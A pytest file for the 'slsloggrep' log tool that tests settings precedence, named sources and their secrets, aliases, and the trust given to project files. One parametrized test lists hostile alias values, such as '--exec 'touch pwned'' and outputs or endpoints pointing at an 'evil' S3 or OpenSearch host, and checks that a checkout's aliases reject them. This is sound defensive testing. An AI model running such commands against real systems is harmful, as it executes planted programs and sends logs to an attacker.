"""What files with settings do to commands: precedence, names of sources, aliases, trust."""

from __future__ import annotations

import io
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any

import click
import pytest

from slsloggrep.cli.app import COMMANDS, Command, make_app
from slsloggrep.cli.context import Environment
from slsloggrep.cli.contexts import Settings, key_of, variable_of
from slsloggrep.cli.main import run
from slsloggrep.cli.options import Inputs, Output, pipeline_options
from slsloggrep.cli.publication import Publication, document_options
from slsloggrep.config.trust import PROJECT_MAY, PROJECT_MAY_ASK
from slsloggrep.errors import UsageError
from slsloggrep.sources.base import Settings as SourceSettings


@pytest.fixture(autouse=True)
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    return tmp_path


def environment(env: dict[str, str] | None = None, **attributes: Any) -> Environment:
    defaults: dict[str, Any] = {
        "stdin": None,
        "stdin_is_terminal": True,
        "stdout": io.StringIO(),
        "stdout_is_terminal": False,
        "stderr": io.StringIO(),
        "stderr_is_terminal": True,
        "width": 80,
        "stderr_width": 10_000,
        "env": {"SLSLOGGREP_CONFIG": "own.toml", **(env or {})},
    }
    return Environment(**{**defaults, **attributes})


def write(own: str = "", project: str | None = None) -> None:
    Path("own.toml").write_text(own, encoding="utf-8")
    if project is not None:
        Path(".slsloggrep.toml").write_text(project, encoding="utf-8")


Seen = tuple[Inputs, Output, Publication]


def ask(*argv: str, **env: str) -> Seen:
    """Return what a command would be called with."""
    seen: list[Seen] = []

    @click.command("probe", cls=Command)
    @click.argument("function_arguments", nargs=-1)
    @pipeline_options
    @document_options
    def probe(
        _environment: Environment, inputs: Inputs, output: Output, *, publication: Publication
    ) -> int:
        seen.append((inputs, output, publication))
        return 0

    root = click.Context(make_app(environment()), obj=environment(env))
    with root, probe.make_context("probe", list(argv), parent=root) as ctx:
        probe.invoke(ctx)
    return seen[0]


def program(*argv: str, **env: str) -> tuple[int, str, str]:
    world = environment(env)
    code = run(argv, world)
    return code, world.stdout.getvalue(), world.stderr.getvalue()  # type: ignore[attr-defined]


def test_each_layer_wins_over_the_one_below() -> None:
    """The user's file < the project's < the context < the variable < the flag."""
    context = "[context.p]\nlate = '4h'\n"
    layers: list[tuple[str, str, dict[str, str], list[str]]] = [
        ("", "", {}, []),
        ("late = '2h'", "", {}, []),
        ("late = '2h'", "late = '3h'", {}, []),
        (f"late = '2h'\n{context}", "late = '3h'", {}, ["--context", "p"]),
        (f"late = '2h'\n{context}", "late = '3h'", {"SLSLOGGREP_CONTEXT": "p"}, []),
        (f"{context}", "", {"SLSLOGGREP_LATE": "5h", "SLSLOGGREP_CONTEXT": "p"}, []),
        (f"{context}", "", {"SLSLOGGREP_LATE": "5h"}, ["--late", "6h"]),
    ]
    found = []
    for own, project, env, argv in layers:
        write(own, project)
        found.append(ask("-S", "demo:", *argv, **env)[0].late // 3_600_000)
    assert found == [1, 2, 3, 4, 4, 5, 6]


def test_values_reach_the_options_as_if_they_were_typed() -> None:
    """Lists, choices, numbers and flags, by the long name of their option."""
    write(
        "sources = ['demo:']\nid-key = ['a', 'b']\nresponse-key = 'r'\nrate = 2\nlocal = true\n"
        "color = 'never'\noutput = 'ndjson'\nstats = true\nengine = 'filter'\nno-links = true"
    )
    inputs, output, publication = ask()
    assert inputs.urls == ("demo:",)
    assert (inputs.id_keys, inputs.response_keys) == (("a", "b"), ("r",))
    assert (inputs.rate, inputs.engine) == (2.0, "filter")
    assert (output.color, output.format, output.stats) == ("never", "ndjson", True)
    assert not publication.consoles.wanted


def test_a_value_that_a_command_does_not_take_is_for_others() -> None:
    """`ndjson` is no format of reports: they stay what they are."""
    write("output = 'ndjson'\nsources = ['demo:']")
    code, said, _ = program("report", "crashes")
    assert code == 0
    assert said.startswith("# ")
    write("output = 'yaml'")
    assert program("report", "crashes")[0] == 2


def test_the_ending_of_a_file_wins_over_a_format_of_the_settings() -> None:
    """Whoever types -O x.html wants a page."""
    write("output = 'json'\nsources = ['demo:']")
    assert ask("-O", "x.html")[1].format == "html"
    assert ask("-O", "x.html", "-o", "md")[1].format == "md"
    assert ask()[1].format == "json"


@pytest.mark.parametrize(
    ("own", "argv", "env", "wanted"),
    [
        ("redact-field = 'customer'", (), {}, True),
        ("redact-field = 'customer'\nredact = false", (), {}, False),
        ("redact-field = 'customer'\nredact = false", ("--redact",), {}, True),
        ("redact-field = 'customer'\nredact = false", ("--redact-ips",), {}, True),
        ("redact-field = 'customer'\nredact = true", ("--no-redact",), {}, False),
        ("redact-field = 'customer'", (), {"SLSLOGGREP_REDACT": "0"}, False),
        ("", ("--redact-ips",), {"SLSLOGGREP_REDACT": "0"}, True),
        ("redact = true", (), {}, True),
        ("", (), {}, False),
    ],
)
def test_redaction_is_on_by_default_or_not(
    own: str, argv: tuple[str, ...], env: dict[str, str], wanted: bool
) -> None:
    """Fields and patterns in a file turn it on, unless it says no; flags have the last word."""
    write(own)
    assert (ask("-S", "demo:", *argv, **env)[2].redaction.rules is not None) is wanted


def test_what_to_redact_comes_from_all_files() -> None:
    """The names of fields and the patterns add up, and reach the rules."""
    write("redact-field = 'a'\nredact-pattern = 'order=ORD-\\d+'", "redact-field = 'b'")
    rules = ask("-S", "demo:")[2].redaction.rules
    assert rules is not None
    assert rules.fields == ("a", "b")
    assert [name for name, _ in rules.patterns] == ["order"]


def opened(inputs: Inputs) -> list[tuple[str, SourceSettings]]:
    """Return what would be opened, and with which settings."""
    seen: list[tuple[str, SourceSettings]] = []

    class Fake:
        capabilities = ~0

        def __init__(self, url: str, settings: SourceSettings) -> None:
            from slsloggrep.sources.base import Capability

            self.capabilities = Capability.FUNCTION  # type: ignore[assignment]
            seen.append((url, settings))

    import slsloggrep.sources.base as base

    patch = pytest.MonkeyPatch()
    with patch.context() as patched:
        patched.setattr(base, "open_source", Fake)
        inputs.open_sources(environment(), lambda: False)
    return seen


PROD = (
    "[source.prod]\nurl = 'cloudwatch:'\nprofile = 'p'\nregion = ['eu-west-1', 'eu-west-2']\n"
    "group = '/ecs/web'\nrole-arn = 'arn:aws:iam::1:role/r'\n"
)


def test_a_source_by_name_is_its_url_account_and_groups() -> None:
    """`-S prod` is all that `[source.prod]` says; a further command names it as it was named."""
    write(PROD)
    inputs = ask("-S", "prod")[0]
    ((url, settings),) = opened(inputs)
    assert url == (
        "cloudwatch:?profile=p&region=eu-west-1&region=eu-west-2&role=arn:aws:iam::1:role/r"
    )
    assert (settings.groups, settings.profiles) == (("/ecs/web",), ("p",))
    assert inputs.regions == ("eu-west-1", "eu-west-2")
    assert inputs.typed == ("-S", "prod")


def test_flags_and_variables_win_over_what_a_source_says() -> None:
    """A source's account is a default, as all of a file."""
    write(PROD)
    inputs = ask("-S", "prod", "--profile", "q", "checkout", SLSLOGGREP_REGION="us-east-1")[0]
    ((url, settings),) = opened(inputs)
    assert url == "cloudwatch:?role=arn:aws:iam::1:role/r"
    assert (settings.profiles, settings.regions) == (("q",), ("us-east-1",))
    assert (settings.groups, settings.functions) == ((), ("checkout",))


def test_two_sources_of_one_kind_keep_their_accounts_apart() -> None:
    """Each has its own profile, and its own groups, whatever the other has."""
    write(
        "[source.a]\nurl = 'cloudwatch:'\nprofile = 'pa'\ngroup = 'ga'\n"
        "[source.b]\nurl = 'cloudwatch:'\nprofile = 'pb'\n[source.c]\nurl = 's3://bucket'\n"
        "region = 'eu-west-1'"
    )
    found = opened(ask("-S", "a", "-S", "b", "-S", "c", "-S", "demo:")[0])
    assert [(url, settings.groups, settings.regions) for url, settings in found] == [
        ("cloudwatch:?profile=pa", ("ga",), ()),
        ("cloudwatch:?profile=pb", (), ()),
        ("s3://bucket", (), ("eu-west-1",)),
        ("demo:", (), ()),
    ][: len(found)]
    assert len(found) == 4


def test_two_names_of_one_place_are_read_once() -> None:
    """Their groups together; where they contradict each other, it is said."""
    write(
        "[source.a]\nurl = 'cloudwatch:'\ngroup = 'ga'\n[source.b]\nurl = 'cloudwatch:'\n"
        "group = 'gb'\n[source.c]\nurl = 'cloudwatch:'\nrate = 1"
    )
    ((url, settings),) = opened(ask("-S", "a", "-S", "b")[0])
    assert (url, settings.groups) == ("cloudwatch:", ("ga", "gb"))
    with pytest.raises(UsageError, match="'c' and 'a' are one place, read in two ways"):
        ask("-S", "a", "-S", "c")
    for argv in (("-S", "a", "-S", "cloudwatch:"), ("-S", "cloudwatch:", "-S", "a")):
        # All of it is asked for, and a part of it, too: neither may pass for the other.
        with pytest.raises(UsageError, match="'cloudwatch:' and 'a' are one place"):
            ask(*argv)


@pytest.mark.parametrize(
    ("argv", "groups", "functions"),
    [
        ((), ("default",), ("fn",)),
        (("-S", "cloudwatch:"), ("default",), ("fn",)),
        (("-S", "demo:"), (), ()),
        (("-S", "./logs"), (), ()),
        (("-S", "own"), ("its",), ()),
        (("-g", "x"), ("x",), ()),
        (("-S", "demo:", "-g", "x"), ("x",), ()),
        (("-F", "f"), (), ("f",)),
        (("f",), (), ("f",)),
    ],
)
def test_default_groups_give_way(
    argv: tuple[str, ...], groups: tuple[str, ...], functions: tuple[str, ...]
) -> None:
    """They are what is read if nobody says what: else an empty answer would be theirs."""
    write(
        "sources = ['cloudwatch:']\ngroup = 'default'\nfunction = 'fn'\n"
        "[source.own]\nurl = 'cloudwatch:?region=eu-west-1'\ngroup = 'its'"
    )
    Path("logs").mkdir()
    ((_, settings),) = opened(ask(*argv)[0])
    assert (settings.groups, settings.functions) == (groups, functions)


@pytest.mark.parametrize(
    ("argv", "chosen"),
    [
        ((), (("default",), (), ())),
        (("-S", "./logs"), ((), (), ())),
        (("-S", "own"), ((), ("team=a",), ("a1b2c3d4e5",))),
        (("-S", "own", "--stack", "x"), (("x",), (), ())),
        (("--api", "a1b2c3d4e5/prod"), ((), (), ("a1b2c3d4e5/prod",))),
        (("-F", "f"), ((), (), ())),
    ],
)
def test_stacks_tags_and_apis_give_way_as_groups_do(
    argv: tuple[str, ...], chosen: tuple[tuple[str, ...], ...]
) -> None:
    """A source may have its own; a further command names what was typed."""
    write(
        "sources = ['cloudwatch:']\nstack = 'default'\n"
        "[source.own]\nurl = 'cloudwatch:?region=eu-west-1'\ntag = 'team=a'\napi = 'a1b2c3d4e5'"
    )
    Path("logs").mkdir()
    inputs = ask(*argv)[0]
    ((_, settings),) = opened(inputs)
    assert (settings.stacks, settings.tags, settings.apis) == chosen
    assert inputs.typed == (() if "-F" in argv else argv)


def test_a_bare_group_flag_leaves_the_default_groups() -> None:
    """`crashes --group` asks for a form of the answer, and names no group."""
    write("sources = ['demo:']\ngroup = '/aws/lambda/shop-search'")
    bare, by_name = (program("crashes", flag)[1] for flag in ("--group", "--groups"))
    assert bare == by_name
    assert bare != program("crashes", "--groups", "-S", "demo:")[1]


def test_a_projects_paths_begin_at_its_folder(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """From a folder below, the same files are read; what is typed begins where one is."""
    write("", "sources = ['logs/*.gz', 'demo:', 'its']\n[source.its]\nurl = '../x'")
    (folder / "below").mkdir()
    monkeypatch.chdir(folder / "below")
    own = str(folder / "own.toml")
    assert ask(SLSLOGGREP_CONFIG=own)[0].urls == (
        f"{folder}/logs/*.gz",
        "demo:",
        str(folder.parent / "x"),
    )
    assert ask("-S", "logs/*.gz", SLSLOGGREP_CONFIG=own)[0].urls == ("logs/*.gz",)


def test_a_slip_in_a_sources_name_is_told() -> None:
    """Unless there is a file of that name."""
    write(PROD)
    with pytest.raises(UsageError, match="no source and no file is called 'prdo'; did you mean"):
        ask("-S", "prdo")
    Path("prdo").touch()
    assert ask("-S", "prdo")[0].urls == ("prdo",)


OS = (
    "[source.os]\nurl = 'opensearch+https://h/i'\nuser = 'ada'\npassword = {{ {} = 'PW' }}\n"
    "[source.key]\nurl = 'opensearch+https://k/i'\napi-key = {{ command = 'pass k' }}\n"
)


def test_a_sources_secrets_are_its_own() -> None:
    """No other source's secret goes to it, and its own to no other."""
    write(OS.format("env"))
    env = {"PW": "s3cret", "SLSLOGGREP_OPENSEARCH_API_KEY": "other"}
    inputs = ask("-S", "os", "-S", "key", "-S", "opensearch+https://x/i", **env)[0]
    found = [
        {name: value for name, value in settings.env.items() if "OPENSEARCH" in name and value}
        for _, settings in opened(inputs)
    ]
    assert found[:2] == [
        {"SLSLOGGREP_OPENSEARCH_USER": "ada", "SLSLOGGREP_OPENSEARCH_PASSWORD": "s3cret"},
        {"SLSLOGGREP_OPENSEARCH_API_KEY_COMMAND": "pass k"},
    ]
    assert "s3cret" not in repr(inputs)
    with pytest.raises(UsageError, match=r"own.toml:1: the variable PW, which holds the password"):
        ask("-S", "os")


def test_a_cluster_by_name_is_where_logs_are_put(monkeypatch: pytest.MonkeyPatch) -> None:
    """`ship --to os` goes to its URL, with its secrets, whatever the source of the logs has."""
    from slsloggrep.cli import shipping

    write(OS.format("env"))
    argv = "ship", "--to", "os", "-S", "demo:"
    env = {"PW": "s3cret", "SLSLOGGREP_OPENSEARCH_TOKEN": "other"}
    shown = program(*argv, "--dry-run", **env)
    assert "all of it would be put into i of h:9200" in shown[1] + shown[2]
    seen: list[tuple[str, SourceSettings]] = []

    def refuse(url: str, _index: str | None, settings: SourceSettings) -> None:
        seen.append((url, settings))
        raise UsageError("seen")

    monkeypatch.setattr(shipping, "Target", refuse)
    assert program(*argv, **env)[0] == 2
    ((url, settings),) = seen
    assert url == "opensearch+https://h/i"
    assert settings.env["SLSLOGGREP_OPENSEARCH_PASSWORD"] == "s3cret"
    assert not settings.env["SLSLOGGREP_OPENSEARCH_TOKEN"]


def test_prices_of_files_are_those_of_the_figures() -> None:
    """A price of the region and the architecture goes before the published one."""
    write("sources = ['demo:']\n[price.eu-west-1]\narm64 = { gb-second = 0.5, request = 0 }\n")
    table = "latency", "-o", "json", "--region", "eu-west-1", "--architecture"
    assert '"gb_second_usd": 0.5' in program(*table, "arm64")[1].replace('":0', '": 0')
    assert '"gb_second_usd": 0.5' not in program(*table, "x86_64")[1].replace('":0', '": 0')


def test_a_flag_for_the_zone_wins_over_the_other_way_to_say_it() -> None:
    """And so does a variable; two ways in two files are the later one's."""
    write("local = true")
    assert ask("-S", "demo:", "--tz", "+02:00")[0].zone.utcoffset(None) is not None
    assert ask("-S", "demo:", SLSLOGGREP_TZ="+02:00")[0].zone.utcoffset(None) is not None
    write("tz = '+02:00'")
    with pytest.raises(UsageError, match="contradict"):
        ask("-S", "demo:", "--tz", "UTC", "--local")


@pytest.mark.parametrize(
    ("key", "said"),
    [
        ("tz = 'Berlni'", "own.toml:1: no time zone is called 'Berlni'"),
        ("late = '60'", "own.toml:1: "),
        ("baseline = 'x'", "own.toml:1: "),
        ("since = '5'", "own.toml:1: the time '5' has no unit"),
        ("[context.p]\nuntil = '03/04/2026'\n", "own.toml:2: the time '03/04/2026' could mean"),
    ],
)
def test_a_value_that_makes_no_sense_is_told_with_its_line(key: str, said: str) -> None:
    """A zone or a duration of a file is not taken for one that was typed."""
    write(f"{key}\n[context.q]" if "context" not in key else key)
    with pytest.raises(UsageError) as caught:
        ask("-S", "demo:", "--context", "p" if "context" in key else "q")
    assert caught.value.message.startswith(said)


def test_settings_that_leave_something_out_are_said() -> None:
    """An empty answer can be trusted only by whoever knows what was not asked for."""
    write("since = '1h'\ngroup = 'x'\ntz = 'UTC'\nsources = ['demo:']")
    assert "narrowed by settings: since, group;" in program("grep", "nothing-like-it")[2]
    said = program("grep", "nothing-like-it", "-S", "demo:", "-s", "2h")[2]
    assert "narrowed" not in said


def test_help_reads_no_file() -> None:
    """A broken file stands in nobody's way who asks how to mend it."""
    write("this is no TOML")
    for argv in (["--help"], ["grep", "--help"], ["config", "--help"], ["config", "path"]):
        assert program(*argv)[0] == 0, argv
    code, _, said = program("grep", "x", "-S", "demo:")
    assert code == 2
    assert said.startswith("slsloggrep: own.toml: this is no TOML")


def test_another_users_project_file_is_not_read(monkeypatch: pytest.MonkeyPatch) -> None:
    """In a folder that several write to, a stranger's file would choose what is read."""
    write("", "id-key = 'theirs'")
    monkeypatch.setattr(os, "getuid", lambda: os.stat("own.toml").st_uid + 1)
    if os.stat("own.toml").st_uid == 0:  # root's are believed: it is as if a user had written it
        status = os.stat

        def owned(path: Path, *, follow_symlinks: bool = True) -> os.stat_result:
            found = status(path, follow_symlinks=follow_symlinks)
            return os.stat_result((*found[:4], 4711, *found[5:]))

        monkeypatch.setattr(Path, "stat", owned)
    code, _, said = program("grep", "x", "-S", "demo:", "-n", "1")
    assert code == 0
    assert "is another user's and is not read" in said
    named = ask("-S", "demo:", SLSLOGGREP_PROJECT_FILE=".slsloggrep.toml")[0]
    assert named.id_keys == ("theirs",)


def test_a_pipe_is_no_projects_file(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """It would be waited for without end; the file of the folder above it is found."""
    write("", "id-key = 'above'")
    (folder / "below").mkdir()
    monkeypatch.chdir(folder / "below")
    os.mkfifo(".slsloggrep.toml")
    own = str(folder / "own.toml")
    assert ask("-S", "demo:", SLSLOGGREP_CONFIG=own)[0].id_keys == ("above",)


def test_a_file_that_is_named_has_to_be_there() -> None:
    """A slip in SLSLOGGREP_CONFIG is no silence; the null device is an empty file."""
    with pytest.raises(UsageError, match=r"'x\.toml' cannot be read"):
        ask("-S", "demo:", SLSLOGGREP_CONFIG="x.toml")
    write("", "this is no TOML")
    assert ask("-S", "demo:", SLSLOGGREP_PROJECT_FILE=os.devnull)[0].urls == ("demo:",)


def test_an_alias_is_a_command_line() -> None:
    """What is typed behind it goes on; it can name the first part, and parts of a command."""
    write("sources = ['demo:']\n[alias]\nfirst = \"grep 'search done' -n 1\"\nrep = 'report'")
    code, said, _ = program("first", "-o", "json")
    assert code == 0
    assert said.count('"message"') == 1
    assert program("rep", "crashes")[0] == 0


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("x = 'y'\ny = 'trace'", "no command is called 'y'"),
        ("x = 'x'", "no command is called 'x'"),
        ("x = '--version'", "no command is called '--version'"),
        ("x = 'crashs'", "no command is called 'crashs'; did you mean 'crashes'?"),
        ("x = '!ls'", "an alias runs no other program"),
    ],
)
def test_an_alias_begins_with_a_command(line: str, said: str) -> None:
    """Never with another alias or another program."""
    write(f"[alias]\n{line}")
    code, _, told = program("x")
    assert code == 2
    assert said in told


def test_a_commands_name_is_no_alias() -> None:
    """The command goes first; that the alias is of no use is told by `config show`."""
    write("[alias]\ngrep = 'trace'")
    assert program("grep", "search", "-n", "1", "-S", "demo:")[0] == 0
    code, _, said = program("config", "show")
    assert code == 2
    assert "a command is called so" in said


@pytest.mark.parametrize(
    "line",
    [
        "crashes -f --exec 'touch pwned'",
        "crashes --exec='touch pwned' -f",
        "crashes -f --bell --exec 'touch pwned' -S demo:",
        "trace x --endpoint-url https://evil",
        "trace x -S opensearch+https://evil/i",
        "trace x --source=opensearch+https://evil/i",
        "trace x -S demo: -O s3://evil/x.html",
        "trace x -vOs3://evil/x.html",
        "trace x --dashboards-url https://evil",
        "report -O s3://evil/x",
        "report trace x -O s3://evil/x",
        "ship --to opensearch+https://evil -S demo:",
        "ship --dashboards .bashrc",
        "tail -f --live",
        "grep x --engine insights",
        "grep x --no-redact",
        "config init --force",
        "crashes --exec",
        "crashes --",
    ],
)
def test_a_projects_alias_says_no_more_than_its_file(line: str) -> None:
    """Who types a name that a checkout has defined starts no program and sends nothing."""
    write("", f'[alias]\nx = "{line}"')
    code, _, told = program("x", "touch pwned")
    assert code == 2
    assert ".slsloggrep.toml:2: " in told
    assert not Path("pwned").exists()


def test_a_projects_alias_can_ask_for_what_is_shown() -> None:
    """That is what a team's alias is for."""
    write("", '[alias]\nx = "crashes show TypeError -s 30d -S demo:"\ny = "grep search -n 1"')
    assert "alias" not in program("x")[2]
    assert program("y", "-S", "demo:")[0] == 0


def test_every_option_with_a_variable_is_a_setting() -> None:
    """The settings are made of the declarations: none is forgotten, none is invented."""
    app = make_app(environment())
    known = set(Settings(app).names())
    assert len(known) > 50
    options = [option for command in app.all_commands() for option in command.params]
    with_variable = {o.envvar for o in options if getattr(o, "envvar", None)}
    assert {variable_of(key) for key in known} == with_variable - {"SLSLOGGREP_CONTEXT"}
    assert set(PROJECT_MAY_ASK) - {"default-context"} <= known
    assert PROJECT_MAY < PROJECT_MAY_ASK
    for option in options:
        key = key_of(option)
        assert key is None or any(Settings(app).kinds(key)), key


def test_every_flag_and_number_has_its_kind() -> None:
    """No option's value is taken for a text that is none."""
    app = make_app(environment())
    kinds: dict[str, Callable[[object], object]] = {}
    for key in Settings(app).names():
        (first, *_) = Settings(app).kinds(key)
        kinds[key] = first.accept
    assert kinds["limit"](3) == 3
    assert kinds["rate"](1) == 1.0
    assert kinds["group"]("x") == ("x",)
    for flag in ("follow", "groups", "redact", "local"):
        assert [kinds[flag](value) for value in (True, False)] == [True, False]
    assert kinds["by"](["cold"]) == ("cold",)
    assert kinds["output"]("json") == "json"


def test_all_commands_are_all_that_the_help_lists() -> None:
    """What is known of settings is known of every command and part."""
    names = [command.name for command in make_app(environment()).all_commands()]
    assert set(COMMANDS) < set(names)
    assert {"crashes show", "report trace", "config show"} <= set(names)
